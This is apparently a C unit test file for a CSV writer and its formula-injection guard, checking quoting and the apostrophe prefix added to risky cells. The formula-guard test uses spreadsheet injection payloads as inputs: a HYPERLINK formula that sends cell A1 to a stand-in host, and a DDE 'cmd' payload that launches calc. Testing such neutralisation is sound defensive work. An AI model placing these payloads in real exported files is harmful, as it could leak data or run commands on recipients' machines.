/* test-csvw.c — covers src/render/csvw.c and src/render/cellguard.c:
 * fields quoted only when needed (comma, quote, CR/LF, leading or trailing
 * space), quotes doubled, rows; cells a spreadsheet would run as a formula
 * get a leading ', plain numbers do not. */
#include "testutil.h"

#include "render/cellguard.h"
#include "render/csvw.h"
#include "util/strbuf.h"

#include <stdlib.h>

/* What csvw_field writes for s. */
static char *field(const char *s)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	assert_non_null(f);
	csvw_field(f, s);
	fclose(f);
	return buf;
}

static void expect_field(const char *in, const char *want)
{
	char *got = field(in);
	assert_string_equal(got, want);
	free(got);
	/* the strbuf writer appends exactly the same bytes */
	struct strbuf sb = STRBUF_INIT;
	strbuf_puts(&sb, "x");
	csvw_field_sb(&sb, in);
	assert_string_equal(strbuf_cstr(&sb) + 1, want);
	strbuf_free(&sb);
}

static void test_field(void **state)
{
	(void)state;
	expect_field(NULL, "");
	expect_field("", "");
	expect_field("plain", "plain");
	expect_field("a,b", "\"a,b\"");
	expect_field("say \"hi\"", "\"say \"\"hi\"\"\"");
	expect_field("\"", "\"\"\"\"");
	expect_field("\"\"x\"", "\"\"\"\"\"x\"\"\"");
	expect_field("two\nlines", "\"two\nlines\"");
	expect_field("cr\r", "\"cr\r\"");
	expect_field(" lead", "\" lead\"");
	expect_field("trail ", "\"trail \"");
	expect_field(" ", "\" \"");
	expect_field("tab\tand!#", "tab\tand!#");
	expect_field("end\"", "\"end\"\"\"");
	expect_field("revenue 1,200 ≥ threshold 800 → Kategori 1",
	             "\"revenue 1,200 ≥ threshold 800 → Kategori 1\"");
}

static void test_formula_guard(void **state)
{
	(void)state;
	expect_field("=1+1", "'=1+1");
	expect_field("=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
	             "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\"");
	expect_field("+46 8 123 45 67", "'+46 8 123 45 67");
	expect_field("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0");
	expect_field("@SUM(A1:A9)", "'@SUM(A1:A9)");
	expect_field("\t=1", "'\t=1");
	expect_field("\r=1", "\"'\r=1\"");
	expect_field("-", "'-");
	expect_field("-1e5", "'-1e5");
	/* plain numbers are numbers, not formulas */
	expect_field("-1234.50", "-1234.50");
	expect_field("-1234,5", "\"-1234,5\"");
	expect_field("+5", "+5");
	expect_field("-12%", "-12%");
	/* the sign must lead */
	expect_field("a=1", "a=1");
	expect_field(" =1", "\" =1\"");
	char *owned;
	assert_string_equal(cellguard_text("=x", &owned), "'=x");
	free(owned);
	const char *same = "safe";
	assert_ptr_equal(cellguard_text(same, &owned), same);
	assert_null(owned);
	assert_int_equal(cellguard_risky(NULL), 0);
	assert_int_equal(cellguard_risky(""), 0);
	assert_int_equal(cellguard_risky("-1.5"), 0);
	assert_int_equal(cellguard_risky("-1.5x"), 1);
	assert_int_equal(cellguard_risky("-."), 1);
	assert_int_equal(cellguard_risky("-1."), 1);
}

static void test_row(void **state)
{
	(void)state;
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	assert_non_null(f);
	const char *cells[] = {"C1", NULL, "x,\"y\"", "3"};
	csvw_row(f, cells, 4);
	fclose(f);
	assert_string_equal(buf, "C1,,\"x,\"\"y\"\"\",3\n");
	free(buf);
	struct strbuf sb = STRBUF_INIT;
	csvw_row_sb(&sb, cells, 4);
	csvw_row_sb(&sb, cells, 1);
	assert_string_equal(strbuf_cstr(&sb), "C1,,\"x,\"\"y\"\"\",3\nC1\n");
	strbuf_free(&sb);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_field),
	    cmocka_unit_test(test_formula_guard),
	    cmocka_unit_test(test_row),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
